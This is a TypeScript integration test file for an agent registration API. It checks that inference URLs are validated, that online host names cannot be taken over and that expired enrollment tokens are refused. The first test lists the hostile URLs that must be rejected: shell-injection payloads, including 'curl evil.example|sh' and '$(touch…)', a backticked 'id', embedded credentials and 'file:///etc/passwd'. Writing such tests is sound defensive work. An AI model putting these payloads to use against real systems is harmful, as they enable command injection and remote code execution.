// Registration refuses an inference URL a pasted "Call it" snippet could run: real route over real HTTP, real
// PostgreSQL. Nothing is written for a refused registration.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/server/db/client";
import { resetEnvForTests } from "@/server/env";
import { createTestAgentToken, createTestEnrollmentToken, insertTestUser } from "@/server/auth/test-support";
import type { ServiceCaller } from "@/server/services/users-service";
import { agentApiRoutes, startRouteServer } from "../../../../../../test/control-plane-harness";
import { recordSecret } from "../../../../../../test/secrets-list";

let server: Awaited<ReturnType<typeof startRouteServer>> | undefined;
let caller: ServiceCaller;

const registration = (hostName: string, inferenceUrl: string) => ({
  protocolVersion: 1,
  agentVersion: "0.1.0",
  hostName,
  bootId: crypto.randomUUID(),
  topology: { sockets: [{ id: 0, nodes: [{ id: 0, cores: [{ socket: 0, node: 0, coreId: 0, cpus: [0] }] }] }] },
  allowedCpus: [0],
  cpuModel: "test",
  memoryBytes: 1e9,
  ortVersion: "1.30.0",
  inferenceUrl,
});
const post = (bearer: string, body: unknown) =>
  fetch(`${server!.url}/api/agent/v1/register`, {
    method: "POST",
    headers: { authorization: `Bearer ${bearer}`, "content-type": "application/json" },
    body: JSON.stringify(body),
  });

beforeAll(async () => {
  resetEnvForTests();
  caller = { user: await insertTestUser(db(), "admin"), requestId: "register-url-test" };
  server = await startRouteServer(await agentApiRoutes(), 0);
});
afterAll(async () => {
  await server?.close();
});

describe("agent registration checks the inference URL", () => {
  it("an agent token with a shell-injecting URL gets 400 naming inferenceUrl, and the agent row is not bound", async () => {
    const token = await createTestAgentToken(caller, { name: "hostile-url" });
    for (const url of [
      "http://node-1:8000/$(touch${IFS}/tmp/pwned)",
      "http://node-1:8000;curl evil.example|sh",
      "http://admin:pw@node-1:8000",
      "file:///etc/passwd",
    ]) {
      const response = await post(token.token, registration("hostile-1", url));
      expect(response.status, url).toBe(400);
      const body = await response.json();
      expect(body.error.message, url).toMatch(
        /^inferenceUrl: must be an http or https URL without credentials or shell characters/,
      );
    }
    const agent = await db().agent.findFirst({ where: { tokens: { some: { id: token.id } } } });
    expect(agent?.hostName ?? null).toBeNull();
    const fine = await post(token.token, registration("hostile-1", "http://node-1:8000"));
    expect(fine.status).toBe(200);
    expect((await db().agent.findFirstOrThrow({ where: { tokens: { some: { id: token.id } } } })).inferenceUrl).toBe(
      "http://node-1:8000",
    );
  });

  it("an enrollment token with a hostile URL gets the same 400 and enrolls no agent", async () => {
    const enrollment = await createTestEnrollmentToken(caller, { name: "hostile-fleet", maxUses: 1 });
    const before = await db().agent.count();
    const response = await post(enrollment.token, registration("hostile-2", "http://node-2:8000/`id`"));
    expect(response.status).toBe(400);
    expect((await response.json()).error.message).toMatch(/^inferenceUrl: /);
    expect(await db().agent.count()).toBe(before);
    const enrolled = await post(enrollment.token, registration("hostile-2", "http://node-2:8000"));
    expect(enrolled.status).toBe(200);
    recordSecret("agent token", (await enrolled.json()).agentToken ?? "");
  });
});

describe("enrolling under a host name that is taken", () => {
  const whoami = (bearer: string) =>
    fetch(`${server!.url}/api/agent/v1/whoami`, { headers: { authorization: `Bearer ${bearer}` } });

  it("is refused (409, no use of the token taken) while that agent is online; an offline one is taken over", async () => {
    const enrollment = await createTestEnrollmentToken(caller, { name: "reimage-fleet", maxUses: 3 });
    const first = await post(enrollment.token, registration("node-reimaged", "http://node-r:8000"));
    expect(first.status).toBe(200);
    const a = (await first.json()) as { agentId: string; agentToken: string };
    recordSecret("agent token", a.agentToken);

    // The first agent heartbeats (registration counts as one): a second host under its name is refused.
    const usesBefore = (await db().enrollmentToken.findUniqueOrThrow({ where: { id: enrollment.id } })).uses;
    const second = await post(enrollment.token, registration("node-reimaged", "http://intruder:8000"));
    expect(second.status).toBe(409);
    expect((await second.json()).error.message).toMatch(/an agent named node-reimaged is online/);
    expect(await db().agent.count({ where: { hostName: "node-reimaged" } })).toBe(1);
    expect((await db().enrollmentToken.findUniqueOrThrow({ where: { id: enrollment.id } })).uses).toBe(usesBefore);
    expect((await db().agent.findUniqueOrThrow({ where: { id: a.agentId } })).inferenceUrl).toBe("http://node-r:8000");

    // Silent for longer than AGENT_OFFLINE_AFTER_MS (a re-imaged node lost its state): the new enrollment takes
    // the agent over, with a new token; the old token stops working.
    await db().agent.update({
      where: { id: a.agentId },
      data: { lastHeartbeatAt: new Date(Date.now() - 10 * 60_000) },
    });
    const again = await post(enrollment.token, registration("node-reimaged", "http://node-r2:8000"));
    expect(again.status).toBe(200);
    const b = (await again.json()) as { agentId: string; agentToken: string };
    recordSecret("agent token", b.agentToken);
    expect(b.agentId).toBe(a.agentId);
    expect(b.agentToken).not.toBe(a.agentToken);
    expect(await db().agent.count({ where: { hostName: "node-reimaged" } })).toBe(1);
    expect((await whoami(a.agentToken)).status).toBe(401);
    expect((await whoami(b.agentToken)).status).toBe(200);
    const event = await db().auditEvent.findFirstOrThrow({
      where: { action: "agent.enroll", targetId: a.agentId },
      orderBy: { id: "desc" },
    });
    expect(event.after).toMatchObject({ replacedOfflineAgent: true });
  });

  it("a decommissioned agent's name is free: enrolling under it makes a new agent", async () => {
    const enrollment = await createTestEnrollmentToken(caller, { name: "decommissioned-fleet", maxUses: 2 });
    const first = (await (await post(enrollment.token, registration("node-gone", "http://node-g:8000"))).json()) as {
      agentId: string;
      agentToken: string;
    };
    recordSecret("agent token", first.agentToken);
    await db().agent.update({ where: { id: first.agentId }, data: { decommissionedAt: new Date() } });
    const next = await post(enrollment.token, registration("node-gone", "http://node-g:8000"));
    expect(next.status).toBe(200);
    const body = (await next.json()) as { agentId: string; agentToken: string };
    recordSecret("agent token", body.agentToken);
    expect(body.agentId).not.toBe(first.agentId);
  });
});

describe("enrollment token expiry", () => {
  it("defaults to 30 days; null asks for none; a date in the past is refused", async () => {
    const now = Date.now();
    const standard = await createTestEnrollmentToken(caller, { name: "default-expiry" });
    const days = (standard.expiresAt!.getTime() - now) / 86_400_000;
    expect(days).toBeGreaterThan(29.99);
    expect(days).toBeLessThan(30.01);
    expect((await createTestEnrollmentToken(caller, { name: "no-expiry", expiresAt: null })).expiresAt).toBeNull();
    await expect(
      createTestEnrollmentToken(caller, { name: "past", expiresAt: new Date(now - 1000) }),
    ).rejects.toMatchObject({ code: "INVALID_INPUT" });
  });

  it("an expired token is refused at registration", async () => {
    const enrollment = await createTestEnrollmentToken(caller, { name: "expiring" });
    await db().enrollmentToken.update({
      where: { id: enrollment.id },
      data: { expiresAt: new Date(Date.now() - 1000) },
    });
    const response = await post(enrollment.token, registration("node-late", "http://node-l:8000"));
    expect(response.status).toBe(401);
    expect((await response.json()).error.message).toMatch(/expired/);
  });
});
